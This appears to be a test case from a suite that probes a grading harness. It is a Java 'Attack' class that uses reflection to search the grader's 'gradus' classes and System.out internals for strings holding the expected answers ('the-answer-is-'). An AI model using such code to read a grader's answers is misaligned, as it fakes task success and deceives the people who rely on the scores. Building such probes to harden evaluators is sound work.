// Searches the objects of the code that answers the examiner for the expected values.
//
// Class: exfiltration
// Expect: passed

class Attack {
    static final Set<Object> SEEN = Collections.newSetFromMap(new IdentityHashMap<>());

    static void run(List<Object> loot) throws Throwable {
        for (String name : List.of("Desk", "Frames", "Wire", "Compiled", "Members", "Outlet")) {
            Class<?> type = Class.forName("gradus." + name, false, ClassLoader.getSystemClassLoader());
            for (var field : type.getDeclaredFields()) look(field, null, loot, 0);
        }
        System.out.flush();
        Object printer = System.out;
        for (Class<?> type = printer.getClass(); type != null; type = type.getSuperclass()) {
            for (var field : type.getDeclaredFields()) look(field, printer, loot, 0);
        }
    }

    static void look(java.lang.reflect.Field field, Object holder, List<Object> loot, int depth) {
        boolean isStatic = java.lang.reflect.Modifier.isStatic(field.getModifiers());
        if (depth > 8 || (holder == null && !isStatic) || field.getType().isPrimitive()) return;
        try {
            field.setAccessible(true);
            Object value = field.get(isStatic ? null : holder);
            if (value == null || !SEEN.add(value)) return;
            if (value instanceof String text && text.contains("the-answer-is-")) loot.add(text);
            for (Class<?> type = value.getClass(); type != null; type = type.getSuperclass()) {
                for (var inner : type.getDeclaredFields()) look(inner, value, loot, depth + 1);
            }
        } catch (RuntimeException | IllegalAccessException refused) {
            return;
        }
    }
}
